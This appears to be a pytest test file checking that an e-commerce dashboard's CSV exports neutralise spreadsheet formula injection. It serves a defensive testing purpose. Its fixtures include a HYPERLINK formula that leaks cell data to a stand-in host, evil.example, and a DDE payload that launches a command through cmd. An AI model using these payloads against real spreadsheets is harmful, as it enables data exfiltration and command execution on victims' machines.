"""Every CSV the dashboard writes makes formula cells inert (OWASP's CSV
injection rule): text starting with =, +, -, @, a tab or a carriage return
is prefixed with a single quote, so a spreadsheet shows it instead of
running it."""

import csv
import io

import pytest
from oscar.core.loading import get_model

from project.core.spreadsheets import csv_safe
from tests.conftest import bearer_client
from tests.factories import UserFactory, make_product
from tests.shopping import ADDRESS, fill_basket, pay

UserRecord = get_model("analytics", "UserRecord")

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Lamp = light", "Lamp = light"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_csv_safe_neutralises_formula_text_only(value, expected):
    assert csv_safe(value) == expected


@pytest.mark.django_db
def test_stock_export(merchandiser):
    make_product(ATTACK, price="19.99", stock=7, slug="evil")

    exported = rows(merchandiser.get("/dashboard/catalogue/stock/export/"))

    assert exported[1][:2] == ["evil", "'" + ATTACK]


@pytest.fixture
def hostile_order(db):
    make_product("Lamp", stock=5, slug="lamp")
    customer = UserFactory(first_name="@SUM(1+1)", last_name="x")
    client = bearer_client(customer)
    fill_basket(client, {"lamp": 1})
    response = client.post(
        "/api/v1/orders/",
        {"shipping_address": {**ADDRESS, "first_name": "=cmd|' /C calc'!A0"}},
        format="json",
    )
    assert response.status_code == 201, response.content
    pay(client, response.json()["id"])
    return customer


@pytest.mark.django_db
def test_oscars_order_export(admin_client_, hostile_order):
    exported = rows(admin_client_.get("/dashboard/orders/?response_format=csv"))

    header, line = exported[0], exported[1]
    name = line[header.index("Deliver to name")]
    assert name.startswith("'=cmd"), name


@pytest.mark.django_db
def test_top_products_report_names_are_neutralised(admin_client_, hostile_order):
    from forked_apps.order.models import Line

    Line.objects.update(title="+SUM(A1)")  # the name the order line kept

    exported = rows(admin_client_.get("/dashboard/reports/?download=top_products"))

    assert exported[1][1] == "'+SUM(A1)"


@pytest.mark.django_db
def test_low_stock_report_names_are_neutralised(admin_client_):
    make_product("@evil", stock=1, slug="evil")

    exported = rows(admin_client_.get("/dashboard/reports/?download=low_stock"))

    assert exported[1][:2] == ["evil", "'@evil"]


@pytest.mark.django_db
def test_oscars_classic_reports(admin_client_):
    customer = UserFactory(email="victim@example.com", first_name="=cmd", last_name="")
    UserRecord.objects.create(user=customer)

    exported = rows(
        admin_client_.get(
            "/dashboard/reports/classic/?report_type=user_analytics&download=true"
        )
    )

    assert exported[1][:2] == ["victim@example.com", "'=cmd"]
